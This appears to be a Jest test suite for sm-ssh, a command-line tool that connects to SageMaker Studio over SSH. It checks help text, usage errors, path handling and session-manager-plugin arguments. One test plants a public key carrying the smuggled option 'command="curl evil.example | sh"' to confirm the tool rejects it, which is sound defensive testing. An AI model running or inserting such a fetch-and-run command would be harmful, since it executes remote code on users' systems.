import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { ssh as sshCore } from '@studio-teams/core';
import { pluginArgs } from '../../src/ssh/commands/proxy';
import { displayPath, homeDir, keyPaths, sshConfigPath } from '../../src/ssh/paths';
import { BLOCK_START } from '../../src/ssh/ssh-config-block';
import { countingEndpoint } from '../helpers/run-cli';
import { bundleSmSsh, runProcess, runSshCli } from './support';

/**
 * sm-ssh without a Studio: help everywhere, usage errors, and the checks that must fail before any
 * AWS call (a counting endpoint proves none was made).
 */
jest.setTimeout(60_000);

let home: string;
let endpoint: Awaited<ReturnType<typeof countingEndpoint>>;
let env: Record<string, string>;
const self = { node: process.execPath, script: '/opt/sm-ssh/sm-ssh.js' };

beforeAll(async () => (endpoint = await countingEndpoint()));
afterAll(() => endpoint.close());
beforeEach(() => {
  home = fs.mkdtempSync(path.join(os.tmpdir(), 'sm-ssh-cli-'));
  env = {
    HOME: home,
    PATH: process.env.PATH ?? '/usr/bin:/bin',
    AWS_REGION: 'us-east-1',
    AWS_ACCESS_KEY_ID: 'AKIDTEST',
    AWS_SECRET_ACCESS_KEY: 'secret',
    AWS_ENDPOINT_URL: endpoint.url,
    AWS_MAX_ATTEMPTS: '1',
  };
});
afterEach(() => fs.rmSync(home, { recursive: true, force: true }));

const run = (argv: string[], extra: Partial<Parameters<typeof runSshCli>[1]> = {}) =>
  runSshCli(argv, { env, self, ...extra });

describe('help', () => {
  it('lists every command, the credentials rule and the exit codes', async () => {
    const r = await run(['--help']);
    expect(r.code).toBe(0);
    for (const c of ['init', 'list', 'connect', 'proxy', 'vscode'])
      expect(r.stdout).toMatch(new RegExp(`^  ${c} `, 'm'));
    expect(r.stdout).toContain('Exit codes: 0 ok, 1 failure, 2 usage error, 130 interrupted');
    expect(r.stdout).toContain('DEBUG=sm-ssh');
  });

  it.each([['init'], ['list'], ['connect'], ['proxy'], ['vscode']])(
    '%s --help has examples and the global options',
    async (c) => {
      const r = await run([c, '--help']);
      expect(r.code).toBe(0);
      expect(r.stdout).toContain('Examples:');
      expect(r.stdout).toContain('--profile <name>');
    },
  );
});

describe('usage errors exit 2 with one line, before any AWS call', () => {
  it.each([
    [['frobnicate'], /^error: unknown command 'frobnicate'/],
    [['connect'], /^error: missing required argument 'name'/],
    [['list', '--domain', 'Not_Valid'], /^error: domain name "Not_Valid" may only contain/],
    [['connect', 'lab', '-L', '8080:x:80'], /^error: unknown option '-L'/],
  ])('%j', async (argv, message) => {
    const r = await run(argv);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(message);
    expect(r.stdout).toBe('');
  });

  it('a public key with a smuggled option: refused, nothing stored, no config written', async () => {
    const key = path.join(home, 'sneaky');
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key]);
    const line = fs.readFileSync(`${key}.pub`, 'utf8');
    fs.writeFileSync(`${key}.pub`, `command="curl evil.example | sh" ${line}`);
    const before = endpoint.count();
    const config = path.join(home, 'config');
    const r = await run(['init', '--key', key, '--ssh-config', config]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      'error: ~/sneaky.pub starts with the option "command": key options (command=, from=, no-pty, …) are not accepted, give the plain key line\n',
    );
    expect(endpoint.count()).toBe(before);
    expect(fs.existsSync(config)).toBe(false);
  });

  it('a damaged block in the ssh config: refused before a key is made or anything is stored', async () => {
    const config = path.join(home, 'config');
    fs.writeFileSync(config, `Host a\n${BLOCK_START}\nHost sm-*\n`);
    const r = await run(['init', '--yes', '--ssh-config', config]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(
      /^error: the sm-ssh block in ~\/config is damaged \(line 2 starts a block that never ends\)/,
    );
    expect(fs.existsSync(path.join(home, '.ssh', 'id_ed25519'))).toBe(false);
    expect(fs.readFileSync(config, 'utf8')).toBe(`Host a\n${BLOCK_START}\nHost sm-*\n`);
  });

  it('no key and no terminal to ask: refuses to create one without --yes', async () => {
    const r = await run(['init', '--ssh-config', path.join(home, 'config')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /^error: refusing to create the key pair ~\/.ssh\/id_ed25519 without a terminal to ask for confirmation; pass --yes/,
    );
    expect(fs.existsSync(path.join(home, '.ssh'))).toBe(false);
  });

  it('asked on a terminal and answered no: no key, nothing stored', async () => {
    const before = endpoint.count();
    const r = await run(['init', '--ssh-config', path.join(home, 'config')], { isTTY: true, input: 'n\n' });
    expect(r.stderr).toMatch(
      /There is no ~\/.ssh\/id_ed25519. Create it with ssh-keygen -t ed25519\? \[y\/N\] /,
    );
    expect(r.code).toBe(1);
    expect(endpoint.count()).toBe(before);
  });

  it('proxy --plugin without session-manager-plugin on PATH: says so, before any AWS call', async () => {
    const before = endpoint.count();
    const r = await runSshCli(['proxy', '--plugin', 'sm-lab'], {
      env: { ...env, PATH: '/nonexistent' },
      self,
      stdoutStream: new PassThrough(),
    });
    expect(r).toMatchObject({
      code: 1,
      stderr:
        "error: session-manager-plugin is not on PATH; drop --plugin to use sm-ssh's own data channel\n",
    });
    expect(endpoint.count()).toBe(before);
  });

  it('connect without an sm-ssh block says to run init (with the same --ssh-config)', async () => {
    const config = path.join(home, 'config');
    fs.writeFileSync(config, 'Host a\n');
    const r = await run(['connect', 'lab', '--ssh-config', config]);
    expect(r).toMatchObject({
      code: 1,
      stderr: 'error: ~/config has no sm-ssh block: run `sm-ssh init --ssh-config ~/config` first\n',
    });
  });
});

describe('pieces', () => {
  it('paths: ~/.ssh/config, the key pair from either half, Windows home from USERPROFILE', () => {
    expect(sshConfigPath({ HOME: '/home/jane' })).toBe('/home/jane/.ssh/config');
    expect(keyPaths({ HOME: '/home/jane' })).toEqual({
      privateKey: '/home/jane/.ssh/id_ed25519',
      publicKey: '/home/jane/.ssh/id_ed25519.pub',
    });
    expect(keyPaths({}, '/k/work.pub')).toEqual({ privateKey: '/k/work', publicKey: '/k/work.pub' });
    expect(homeDir({ USERPROFILE: 'C:\\Users\\jane', HOME: '/c/msys' }, 'win32')).toBe('C:\\Users\\jane');
    expect(displayPath('/home/jane/.ssh/config', { HOME: '/home/jane' })).toBe('~/.ssh/config');
    expect(displayPath('/home/janet/x', { HOME: '/home/jane' })).toBe('/home/janet/x');
  });

  it('refuses to run inside a SageMaker container unless forced', () => {
    const file = path.join(home, 'resource-metadata.json');
    expect(() => sshCore.refuseInsideSageMaker('init', { file })).not.toThrow();
    fs.writeFileSync(file, '{}');
    expect(() => sshCore.refuseInsideSageMaker('init', { file })).toThrow(
      `sm-ssh init is for your laptop, and this is a SageMaker container (${file} exists); run it on your own machine, or pass --force`,
    );
    expect(() => sshCore.refuseInsideSageMaker('init', { file, force: true })).not.toThrow();
  });

  it("session-manager-plugin's arguments, as the AWS CLI passes them", () => {
    const settings = {
      region: 'eu-west-1',
      profile: 'work',
      credentialSource: 'profile work',
      credentials: { kind: 'profile' as const, profile: 'work', why: '--profile' as const },
      env: {},
    };
    const ssm = pluginArgs(
      {
        service: 'ssm',
        sessionId: 's-1',
        streamUrl: 'wss://ssmmessages.eu-west-1.amazonaws.com/v1/data-channel/s-1?role=publish_subscribe',
        tokenValue: 't',
        request: {
          Target: 'mi-0123456789abcdef0',
          DocumentName: 'AWS-StartSSHSession',
          Parameters: { portNumber: ['22'] },
        },
      },
      settings,
    );
    expect(ssm).toEqual([
      '{"SessionId":"s-1","StreamUrl":"wss://ssmmessages.eu-west-1.amazonaws.com/v1/data-channel/s-1?role=publish_subscribe","TokenValue":"t"}',
      'eu-west-1',
      'StartSession',
      'work',
      '{"Target":"mi-0123456789abcdef0","DocumentName":"AWS-StartSSHSession","Parameters":{"portNumber":["22"]}}',
      'https://ssm.eu-west-1.amazonaws.com',
    ]);
    const space = pluginArgs(
      {
        service: 'sagemaker',
        sessionId: 's-2',
        streamUrl: 'wss://x',
        tokenValue: 't',
        request: { ResourceIdentifier: 'arn:space' },
      },
      { ...settings, env: { AWS_ENDPOINT_URL: 'http://127.0.0.1:4566' } },
    );
    expect(space[4]).toBe('{"Target":"arn:space"}');
    expect(space[5]).toBe('http://127.0.0.1:4566');
  });

  it('payload size: the plugin’s 1 KB towards AWS, 64 KB to a loopback stream URL', () => {
    expect(sshCore.payloadSizeFor('wss://ssmmessages.us-east-1.amazonaws.com/v1/data-channel/x')).toBe(1024);
    expect(sshCore.payloadSizeFor('ws://127.0.0.1:4566/v1/data-channel/x')).toBe(65536);
    expect(sshCore.payloadSizeFor('ws://localhost:4566/v1/data-channel/x')).toBe(65536);
    expect(sshCore.payloadSizeFor('not a url')).toBe(1024);
  });
});

describe('the bin', () => {
  let bundle: ReturnType<typeof bundleSmSsh>;
  beforeAll(() => (bundle = bundleSmSsh()));
  afterAll(() => bundle.remove());

  it('--help loads neither the AWS SDK nor TypeBox, and exits 0', () => {
    const probe = `
      process.on('exit', () => {
        const heavy = Object.keys(require.cache).filter((k) => /@aws-sdk|typebox|[\\\\/]ws[\\\\/]/.test(k));
        require('fs').writeSync(2, 'heavy-modules=' + heavy.length + '\\n');
      });
      process.argv.splice(1, 0, 'sm-ssh');
      require(${JSON.stringify(bundle.script)});`;
    const r = spawnSync(process.execPath, ['-e', probe, '--', '--help'], {
      env,
      encoding: 'utf8',
      cwd: home,
    });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('Usage: sm-ssh');
    expect(r.stderr).toBe('heavy-modules=0\n');
  });

  it('proxy errors go to stderr as one line and never to stdout (ssh reads stdout as the connection)', async () => {
    // Asynchronously: the failing endpoint answers from this very process.
    const r = await runProcess(process.execPath, [bundle.script, 'proxy', 'sm-lab'], {
      env: { ...env, AWS_EC2_METADATA_DISABLED: 'true' },
      timeoutMs: 20_000,
    });
    expect(r.code).toBe(1);
    expect(r.stdout.length).toBe(0);
    expect(r.stderr).toMatch(/^error: AWS kept failing \(sagemaker:ListDomains\)[^\n]+\n$/);
  });
});
